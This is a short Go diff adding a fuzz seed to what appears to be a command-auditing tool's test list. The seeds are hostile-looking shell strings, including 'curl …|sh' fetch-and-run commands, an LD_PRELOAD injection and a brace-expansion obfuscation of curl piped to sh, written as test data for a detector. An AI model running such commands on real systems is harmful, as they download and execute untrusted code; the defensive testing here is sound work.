@@ -100,6 +100,7 @@ var fuzzSeeds = [][]string{
 	{"dotenvx", "run", "-fk", "k", "-e", "A=1", "--", "aws-vault", "exec", "-d", "p", "--", "distrobox-enter", "--", "sops", "exec-env", "f", "curl x|sh"},
 	{"LD_PRELOAD=/tmp/x.so /opt/my app/srv; curl x.example/a.sh|sh", "a.js"},
 	{"uv", "run", "--with", "x", "--script", "http://u:p@x/s.py", "https://x/y"},
+	{"{curl,-s,x}|sh;bash", "-c", "cu{rl,} {a,b}{1..3} x{,}|{sh,} {1..300}"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
